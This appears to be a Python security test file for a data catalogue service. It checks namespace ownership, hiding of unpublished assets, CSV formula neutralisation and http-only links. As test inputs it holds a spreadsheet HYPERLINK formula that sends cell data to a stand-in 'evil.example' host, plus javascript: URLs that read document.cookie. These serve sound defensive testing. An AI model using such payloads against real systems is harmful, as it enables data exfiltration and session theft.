"""Catalogue and ecosystem leaks: namespaces tied to organisations, unpublished assets hidden,
CSV exports that a spreadsheet cannot execute, and only http(s) links."""

from __future__ import annotations

import httpx
from sqlalchemy.ext.asyncio import AsyncSession

from aifhub.core.csvsafe import safe_cell

from ..catalog.helpers import owner_with_asset, publish, requester
from ..factories import api_user, make_org


async def test_namespace_must_be_the_organisation_of_the_creator(
    client: httpx.AsyncClient, db: AsyncSession
) -> None:
    await owner_with_asset(client, db, slug="orga/first", org="orga")
    h = await api_user(db, "b@orgb.example")
    await make_org(client, h, "orgb")
    for slug in ("orga/stolen", "mistralai/mistral-7b-v0.1"):
        body = {"kind": "model", "organisation": "orgb", "slug": slug, "name": "X",
                "license": "mit"}  # fmt: skip
        r = await client.post("/api/v1/catalog", json=body, headers=h)
        assert r.status_code == 403, r.text
        assert "'orgb/...'" in r.json()["detail"]
    ok = {"kind": "model", "organisation": "orgb", "slug": "orgb/mine", "name": "X",
          "license": "mit"}  # fmt: skip
    assert (await client.post("/api/v1/catalog", json=ok, headers=h)).status_code == 201
    staff = await api_user(db, "admin@factory.example", staff=("admin",))
    mirror = {**ok, "slug": "mistralai/mistral-7b-v0.1"}
    assert (await client.post("/api/v1/catalog", json=mirror, headers=staff)).status_code == 201


async def test_asset_without_published_version_is_hidden_from_outsiders(
    client: httpx.AsyncClient, db: AsyncSession
) -> None:
    owner = await owner_with_asset(client, db, slug="neuro/secret-draft")
    outsider = await api_user(db, "out@example.eu")
    slug = "neuro/secret-draft"
    for h in ({}, outsider):
        assert (await client.get(f"/api/v1/catalog/{slug}", headers=h)).status_code == 404
        assert (await client.get(f"/api/v1/catalog/{slug}/README.md", headers=h)).status_code == 404
        assert (await client.get(f"/api/v1/catalog/{slug}/dcat.jsonld")).status_code == 404
        found = (await client.get("/api/v1/catalog?q=secret", headers=h)).json()
        assert found["items"] == [] and found["total"] == 0
        listed = (await client.get("/api/v1/catalog", headers=h)).json()
        assert slug not in [i["slug"] for i in listed["items"]]
        page = await client.get(f"/catalog/{slug}", headers=h)
        assert page.status_code == 404
    assert (await client.get(f"/api/v1/catalog/{slug}", headers=owner)).status_code == 200
    await publish(client, owner, slug, "v1", {"a.txt": b"hello"})
    assert (await client.get(f"/api/v1/catalog/{slug}")).status_code == 200
    found = (await client.get("/api/v1/catalog?q=secret")).json()
    assert [i["slug"] for i in found["items"]] == [slug]


async def test_grants_csv_neutralises_formulas(client: httpx.AsyncClient, db: AsyncSession) -> None:
    owner = await owner_with_asset(client, db, access_policy="gated")
    await publish(client, owner, "neuro/mri-small", "v1", {"a.txt": b"x"})
    pi = await requester(client, db)
    purpose = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    r = await client.post(
        "/api/v1/catalog/neuro/mri-small/requests",
        json={"project": "wing-cfd", "purpose": purpose, "answers": {}},
        headers=pi,
    )
    assert r.status_code == 201, r.text
    csv_text = (await client.get("/api/v1/catalog/neuro/mri-small/grants.csv", headers=owner)).text
    assert ",=HYPERLINK" not in csv_text and '"=HYPERLINK' not in csv_text
    assert "'=HYPERLINK" in csv_text
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(bad) == "'" + bad
    assert safe_cell("plain") == "plain" and safe_cell(-3) == -3


async def test_partner_website_must_be_http(client: httpx.AsyncClient, db: AsyncSession) -> None:
    staff = await api_user(db, "staff@factory.example", staff=("support",))
    body = {"slug": "evil-fund", "name": "Evil", "kind": "fund",
            "website": "javascript:alert(document.cookie)"}  # fmt: skip
    r = await client.post("/api/v1/partners", json=body, headers=staff)
    assert r.status_code == 422, r.text
    assert "website" in r.json()["detail"]
    r = await client.post(
        "/api/v1/partners", json={**body, "website": "https://fund.example"}, headers=staff
    )
    assert r.status_code == 201, r.text


def test_links_render_only_http() -> None:
    from aifhub.web.render import templates

    href = templates.env.filters["web_href"]
    assert href("javascript:alert(1)") == "#"
    assert href(" JaVaScRiPt:alert(1)") == "#"
    assert href("data:text/html,x") == "#"
    assert href("https://ok.example/x") == "https://ok.example/x"
